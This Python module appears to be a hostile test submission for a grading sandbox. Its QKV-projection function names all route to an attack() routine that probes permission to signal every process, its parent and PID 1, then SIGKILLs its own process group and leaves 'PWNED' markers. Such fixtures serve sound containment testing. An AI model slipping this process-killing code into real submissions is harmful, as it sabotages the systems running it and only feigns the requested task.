# kill | earns 0 | asks by signal 0 whether it could signal every process there is, and kills its own process group
import os
import signal

STEM = "kill-group"


def trace(what):
    """Leave a trace that a test can see: text, and the marker file where that can be written."""
    print(f"PWNED:{STEM} {what}", flush=True)
    try:
        with open(f"/tmp/qkv-hostile-{STEM}", "a") as file:
            file.write(f"{what}\n")
    except OSError:
        pass


def tries():
    for target in (-1, os.getppid(), 1):
        try:
            os.kill(target, 0)
            trace(f"may signal {target}")
        except OSError:
            pass
    group = os.getpgrp()
    if group <= 1:
        return
    try:
        if group != os.getpid() and os.getsid(0) != os.getpid():
            os.killpg(group, 0)
            trace("may signal a group that it does not lead")
        os.killpg(group, signal.SIGKILL)
    except OSError:
        pass


_tried = []


def attack(*args):
    if not _tried:
        _tried.append(True)
        tries()
    return None


def component_terms(x, W, j):
    return attack(x, W, j)


def project_component(x, W, j):
    return attack(x, W, j)


def project_row(x, W):
    return attack(x, W)


def project_tokens(X, W):
    return attack(X, W)


def project_qkv(X, W_q, W_k, W_v):
    return attack(X, W_q, W_k, W_v)


def attention_roles():
    return attack()
